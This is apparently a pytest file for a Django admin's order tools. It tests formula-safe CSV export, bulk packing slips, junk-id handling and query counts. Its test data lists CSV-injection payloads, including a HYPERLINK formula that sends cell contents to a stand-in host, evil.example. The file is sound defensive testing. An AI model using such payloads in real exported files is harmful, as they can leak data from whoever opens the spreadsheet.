"""CSV export (formula-safe), packing slips for many orders, and the order list's query count."""

import csv
import io

import pytest

from materials.models import Order, OrderItem
from rescue_restore.text import spreadsheets
from tests.factories.materials import EditionFactory, OrderFactory
from tests.signin import sign_in

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def orders_with_items(count, edition=None, **fields):
    edition = edition or EditionFactory()
    orders = [OrderFactory(**fields) for _ in range(count)]
    OrderItem.objects.bulk_create(OrderItem(order=order, edition=edition, quantity=5) for order in orders)
    return orders


@pytest.mark.parametrize("payload", FORMULAS, ids=repr)
def test_safe_cell_neutralises_formulas(payload):
    assert spreadsheets.safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["County clinic", "202-555-0123", "RR-2026-000001", "", 12, "a=b"])
def test_safe_cell_leaves_ordinary_values_alone(value):
    assert spreadsheets.safe_cell(value) == str(value)


def test_csv_export_of_formula_payloads_opens_as_text(client, staff_fulfilment):
    [name, organization, city, intended_use, line2, phone] = FORMULAS
    order = OrderFactory(
        name=name, organization=organization, city=city, intended_use=intended_use, address_line2=line2, phone=phone
    )
    OrderItem.objects.create(order=order, edition=EditionFactory(item_code="RR-CSV-EN"), quantity=7)
    sign_in(client, staff_fulfilment)
    response = client.post("/admin/materials/order/", {"action": "export_csv", "_selected_action": [order.pk]})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="orders-')
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    [row] = rows
    assert row["Reference"] == order.reference
    assert row["Items"] == "7 x RR-CSV-EN"
    assert row["Copies"] == "7"
    for column, payload in [
        ("Name", name),
        ("Organization", organization),
        ("City", city),
        ("Intended use", intended_use),
        ("Address line 2", line2),
        ("Phone", phone),
    ]:
        assert row[column] == "'" + payload, column
    # No cell of the file starts a formula.
    for value in rows[0].values():
        assert not value.startswith(spreadsheets.FORMULA_STARTS), value


def test_packing_slips_render_one_slip_per_order_for_fifty_orders(
    client, staff_fulfilment, django_assert_max_num_queries
):
    orders = orders_with_items(50, status=Order.Status.APPROVED)
    sign_in(client, staff_fulfilment)
    response = client.post(
        "/admin/materials/order/", {"action": "print_packing_slips", "_selected_action": [o.pk for o in orders]}
    )
    assert response.status_code == 302
    with django_assert_max_num_queries(10):
        page = client.get(response["Location"])
    assert page.status_code == 200
    html = page.content.decode()
    assert html.count('class="rr-slip"') == 50
    for order in orders:
        assert f"Packing slip: order {order.reference}" in html
    assert "materials/admin.css" in html
    assert " style=" not in html


def test_packing_slips_ignore_junk_ids(client, staff_fulfilment):
    [order] = orders_with_items(1)
    sign_in(client, staff_fulfilment)
    page = client.get(f"/admin/materials/order/packing-slips/?id={order.pk}&id=abc&id=%00&id=99999999999999")
    assert page.status_code == 200
    assert page.content.decode().count('class="rr-slip"') == 1


def test_order_changelist_filters_and_search(client, staff_fulfilment):
    OrderFactory(state="CA", organization="Sacramento clinic", status=Order.Status.RECEIVED)
    OrderFactory(state="TX", organization_type="law-enforcement", email="officer@example.gov")
    sign_in(client, staff_fulfilment)

    def listed(query):
        return sorted(o.organization for o in client.get(f"/admin/materials/order/?{query}").context["cl"].result_list)

    assert listed("state=CA") == ["Sacramento clinic"]
    assert listed("organization_type__exact=law-enforcement") == ["County clinic"]
    assert listed("q=officer%40example.gov") == ["County clinic"]
    assert listed("q=Sacramento") == ["Sacramento clinic"]
    assert listed("status__exact=received") == ["County clinic", "Sacramento clinic"]


def test_order_changelist_query_count_does_not_grow(client, staff_fulfilment, assert_same_queries):
    edition = EditionFactory()
    sign_in(client, staff_fulfilment)

    sizes = []

    def grow(size):
        orders_with_items(size - Order.objects.count(), edition=edition, status=Order.Status.APPROVED)
        sizes.append(size)

    def visit():
        response = client.get("/admin/materials/order/?status__exact=approved")
        assert response.status_code == 200
        assert response.context["cl"].result_count == sizes[-1]

    assert_same_queries((5, 45), grow, visit, most=14)


def test_dashboard_query_count_does_not_grow(client, superuser, assert_same_queries):
    edition = EditionFactory(stock_on_hand=10)
    sign_in(client, superuser)

    def grow(size):
        orders_with_items(size - Order.objects.count(), edition=edition, status=Order.Status.SHIPPED)
        EditionFactory(stock_on_hand=1)

    assert_same_queries((3, 40), grow, lambda: client.get("/admin/"), most=20)
